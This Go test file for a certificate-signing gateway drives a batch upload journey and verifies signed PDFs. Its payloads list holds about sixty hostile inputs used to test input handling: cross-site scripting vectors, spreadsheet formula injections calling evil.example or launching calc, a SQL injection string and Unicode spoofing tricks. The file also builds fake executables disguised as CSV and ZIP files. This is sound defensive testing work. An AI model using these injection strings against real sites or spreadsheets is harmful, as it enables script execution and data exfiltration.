//go:build !race

package journeys_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mohor-sign/mohor/internal/gatewaytest"
)

// columnsOf are those of a list of candidates, with values that are good.
var columnsOf = [][2]string{{"nama", "ALI BIN ABU"}, {"no_kp", "800101149999"}, {"no_sijil", ""}, {"kod_program", "TP-021-3:2013"}, {"nama_program", "PENYELENGGARAAN"},
	{"tahap", "SKM 3"}, {"kod_pusat", "CTH-0601"}, {"pusat", "PUSAT LATIHAN CONTOH"}, {"batch", "2026/07-A"}, {"tahun", "072026"}, {"bahasa", "ms"}}

// candidates writes a list of n rows whose numbers begin with prefix; change changes a row.
func candidates(t *testing.T, path, prefix string, n int, change func(k int, row []string)) string {
	t.Helper()
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	row := make([]string, len(columnsOf))
	for k := range columnsOf {
		row[k] = columnsOf[k][0]
	}
	_ = w.Write(row) // into memory
	for k := range n {
		for c := range columnsOf {
			row[c] = columnsOf[c][1]
		}
		row[0], row[1], row[2] = fmt.Sprintf("CALON BIN CONTOH %05d", k+1), fmt.Sprintf("8001%02d99%04d", k/10000+1, k%10000), fmt.Sprintf("%s%05d", prefix, k+1)
		if change != nil {
			change(k, row)
		}
		_ = w.Write(row)
	}
	w.Flush()
	if err := os.WriteFile(path, b.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// payloads are texts that somebody could hope to have run, sent, or misread.
func payloads() []string {
	out := []string{
		`<script>window.__x=1</script>`, `"><script>window.__x=1</script>`, `'><img src=x onerror=window.__x=1>`, `<img src=x onerror="window.__x=1">`, `<svg onload=window.__x=1>`,
		`<svg><script>window.__x=1</script></svg>`, `<iframe srcdoc="<script>parent.__x=1</script>">`, `<object data="javascript:window.__x=1">`, `<embed src="javascript:window.__x=1">`, `<math><mi xlink:href="javascript:window.__x=1">x`,
		`<a href="javascript:window.__x=1">klik</a>`, `javascript:window.__x=1`, `data:text/html,<script>window.__x=1</script>`, `<body onload=window.__x=1>`, `<details open ontoggle=window.__x=1>`,
		`<input autofocus onfocus=window.__x=1>`, `<style>*{display:none}</style>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href=//evil.example/>`,
		`<form action=//evil.example><button>Tandatangan</button>`, `</td></tr></table><h1>SAH</h1>`, `</textarea><script>window.__x=1</script>`, `</title><script>window.__x=1</script>`, `<!--`,
		`--><script>window.__x=1</script>`, `]]><script>window.__x=1</script>`, `{{constructor.constructor('window.__x=1')()}}`, `${window.__x=1}`, `#{window.__x=1}`,
		`<div hx-get="/logout" hx-trigger="load">x</div>`, `<div hx-on:load="window.__x=1">x</div>`, `<template><script>window.__x=1</script></template>`, `&lt;script&gt;window.__x=1&lt;/script&gt;`, `&#60;script&#62;window.__x=1`,
		`%3Cscript%3Ewindow.__x=1%3C/script%3E`, `\u003cscript\u003ewindow.__x=1`, `<ſcript>window.__x=1</ſcript>`, `＜script＞window.__x=1＜/script＞`, "data: x\n\nevent: done\ndata: x",
		`=cmd|' /C calc'!A0`, `=HYPERLINK("http://evil.example","klik")`, `+1+1`, `-1+1`, `@SUM(1+1)`, "\t=1+1", `=WEBSERVICE("http://evil.example")`, `|calc`, `;=1+1`, `%0A=1+1`,
		"ALI \u202eUBA NIB", "\u2066ALI\u2069", "ALI\u200b\u200bABU", "A\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308", "\ufeffALI", "ALI\u00a0BIN", "аdmin", strings.Repeat("PANJANG", 300), strings.Repeat("Ŵ", 119), "' OR 1=1; DROP TABLE batch; --",
	}
	return out
}

// hostile writes for each column a list that has all payloads in it.
func hostile(t *testing.T, dir string) (files []string) {
	t.Helper()
	all := payloads()
	if len(all) != 60 {
		t.Fatalf("%d payloads", len(all))
	}
	for c := range columnsOf {
		files = append(files, candidates(t, filepath.Join(dir, "lajur-"+columnsOf[c][0]+".csv"), fmt.Sprintf("HX%02d-", c), len(all), func(k int, row []string) { row[c] = all[k] }))
	}
	return files
}

// broken are files that are refused whole.
func broken(t *testing.T, dir string) map[string]string {
	t.Helper()
	list := func(prefix string) []byte {
		b, err := os.ReadFile(candidates(t, filepath.Join(dir, "asal.csv"), prefix, 3, nil))
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	out := map[string]string{}
	for name, b := range map[string][]byte{
		"pengepala.csv": bytes.Replace(list("A"), []byte("no_kp"), []byte("warna<b>"), 1),
		"kosong.csv":    nil,
		"dua-kod.csv":   append(list("B"), []byte("JOS\xc3\x89 \xff\xfe,1,2,3,4,5,6,7,8,9,0\n")...),
		"nul.csv":       bytes.Replace(list("C"), []byte("CALON"), []byte("CAL\x00N"), 1),
		"program.exe":   append([]byte("MZ\x90\x00"), bytes.Repeat([]byte{0xcc}, 4096)...),
		"program.csv":   append([]byte("MZ\x90\x00"), bytes.Repeat([]byte{0xcc}, 4096)...),
		"program.zip":   append([]byte("MZ\x90\x00"), bytes.Repeat([]byte{0xcc}, 4096)...),
		"lajur.csv":     []byte(strings.Repeat("nama,", 10000) + "nama\n"),
		"petik.csv":     bytes.Replace(list("D"), []byte("CALON"), []byte(`"CALON`), 1),
		"program.xlsx":  []byte("PK\x03\x04 bukan buku kerja"),
	} {
		out[name] = filepath.Join(dir, name)
		if err := os.WriteFile(out[name], b, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return out
}

// A newcomer goes from the log-in to the ZIP of a hundred certificates; the rest of the pages follow,
// in each of their states, with what people do wrong and what somebody could do on purpose.
func TestJourneyBatch(t *testing.T) {
	gatewaytest.Tool(t, "pdfsig")
	g := gatewaytest.New(t)
	dir := t.TempDir()
	with := given{"dir": dir, "hundred": "../../examples/candidates.csv", "hostile": hostile(t, dir), "broken": broken(t, dir),
		"many":  candidates(t, filepath.Join(dir, "banyak.csv"), "SR-", 10000, nil),
		"few":   candidates(t, filepath.Join(dir, "sedikit.csv"), "SK-", 4, nil),
		"other": candidates(t, filepath.Join(dir, "lain.csv"), "LN-", 4, nil),
		"more":  candidates(t, filepath.Join(dir, "tambah.csv"), "TB-", 2, nil),
	}
	for k, where := range []string{"ms-phone", "ms-desktop", "en-phone", "en-desktop"} {
		prefix := fmt.Sprintf("SL%d-", k)
		with["mended-"+where] = candidates(t, filepath.Join(dir, "betul-"+where+".csv"), prefix, 12, nil)
		with["drop-"+where] = candidates(t, filepath.Join(dir, "batal-"+where+".csv"), "BT-", 4, nil)
		with["wrong-"+where] = candidates(t, filepath.Join(dir, "salah-"+where+".csv"), prefix, 12, func(k int, row []string) {
			switch k {
			case 1:
				row[1] = "801301149002"
			case 3:
				row[0] = ""
			case 5:
				row[2] = prefix + "00001"
			case 7:
				row[3] = "TP-021-1:2013"
			}
		})
	}
	if only := os.Getenv("ONLY"); only != "" {
		with["only"] = strings.Split(only, " ")
	}
	r := run(t, g, "batch", with, nil)
	for k, v := range r {
		t.Log(k, v)
	}
	c, _ := r["newcomer"].(map[string]any)
	t.Logf("from the log-in to the ZIP of 100 certificates: %v", c)
	for what, most := range map[string]float64{"clicks": 10, "typed": 6, "chosen": 1, "keys": 0, "pages": 18} {
		if n, ok := c[what].(float64); !ok || n > most {
			t.Errorf("%s: %v, more than %v", what, c[what], most)
		}
	}
	archived(t, filepath.Join(dir, "newcomer.zip"), 100, 3)
}

// archived checks the ZIP of a batch: n PDFs, of which another program judges some, and their manifest.
func archived(t *testing.T, path string, n, judge int) {
	t.Helper()
	zr, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	pdfs := 0
	var manifest struct {
		Count int
		Items []struct{ State, Verdict, File string }
	}
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(rc)
		if err != nil {
			t.Fatal(err)
		}
		switch {
		case f.Name == "manifest.json":
			if err := json.Unmarshal(b, &manifest); err != nil {
				t.Fatal(err)
			}
		case strings.HasSuffix(f.Name, ".pdf"):
			if pdfs++; pdfs%max(n/judge, 1) == 0 {
				one := filepath.Join(t.TempDir(), "sijil.pdf")
				if err := os.WriteFile(one, b, 0o600); err != nil {
					t.Fatal(err)
				}
				out, err := exec.Command("pdfsig", "-nocert", one).CombinedOutput()
				if err != nil || !bytes.Contains(out, []byte("Signature is Valid.")) || !bytes.Contains(out, []byte("Total document signed")) {
					t.Errorf("%s: pdfsig: %v: %s", f.Name, err, out)
				}
			}
		default:
			t.Errorf("in the ZIP: %q", f.Name)
		}
	}
	verified := 0
	for _, it := range manifest.Items {
		if it.State == "signed" && it.Verdict == "VERIFIED" && it.File != "" {
			verified++
		}
	}
	if pdfs != n || manifest.Count != n || verified != n {
		t.Errorf("%d PDFs, %d in the manifest, %d of them verified; not %d", pdfs, manifest.Count, verified, n)
	}
}
